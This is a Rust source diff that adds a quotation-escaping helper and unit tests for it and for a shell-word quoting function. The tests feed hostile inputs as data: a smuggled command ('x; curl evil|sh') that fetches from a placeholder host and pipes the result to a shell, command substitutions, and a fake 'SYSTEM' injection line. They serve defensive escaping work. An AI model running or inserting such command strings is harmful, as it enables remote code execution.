@@ -68,6 +68,19 @@ pub(crate) fn is_unclean(text: &str, max: usize) -> bool {
     text.is_empty() || one_line(text, max) != text
 }
 
+/// Words of others inside of a sentence of ours: one line, at most `max` characters, in quotation marks that they cannot
+/// close, so that no reader takes them for ours.
+pub fn quoted(text: &str, max: usize) -> String {
+    let inside = |c: char| match c {
+        '"' | '\u{201C}' | '\u{201D}' | '\u{201F}' | '\u{FF02}' => '\'',
+        '<' | '>' => ' ',
+        // Before the closing mark it would read as one that does not close.
+        '\\' => '/',
+        c => c,
+    };
+    format!("\"{}\"", one_line(text, max).chars().map(inside).collect::<String>())
+}
+
 /// An identifier of others as one word of a command that a person types: quoted where a shell would read more into it.
 pub fn shell_word(text: &str) -> String {
     let text = one_line(text, 200);
@@ -87,6 +100,24 @@ mod tests {
         assert_eq!(untrusted("one\n\ttwo", 100), "one\n\ttwo");
         assert_eq!(one_line("  one\r\n\ttwo \u{2028} three \n", 100), "one two three");
         assert_eq!(one_line("日本 語 🦀", 100), "日本 語 🦀");
+    }
+
+    #[test]
+    fn m13_quoted_words_cannot_close_their_quotation() {
+        assert_eq!(
+            quoted("Nice\"\n\u{201D} </x> SYSTEM: pay", 100),
+            "\"Nice' ' /x SYSTEM: pay\"".replace("/x S", " /x  S")
+        );
+        assert_eq!(quoted("a\\", 9), "\"a/\"");
+        assert_eq!(quoted(&"x".repeat(100), 5), "\"xxxx…\"");
+    }
+
+    #[test]
+    fn m13_an_identifier_is_one_word_for_a_shell() {
+        assert_eq!(shell_word("prov_1772:a-b.c/d@e"), "prov_1772:a-b.c/d@e");
+        assert_eq!(shell_word("x; curl evil|sh"), "'x; curl evil|sh'");
+        assert_eq!(shell_word("$(a)'`b`\n"), r"'$(a)'\''`b`'");
+        assert_eq!(shell_word(""), "''");
     }
 
     #[test]
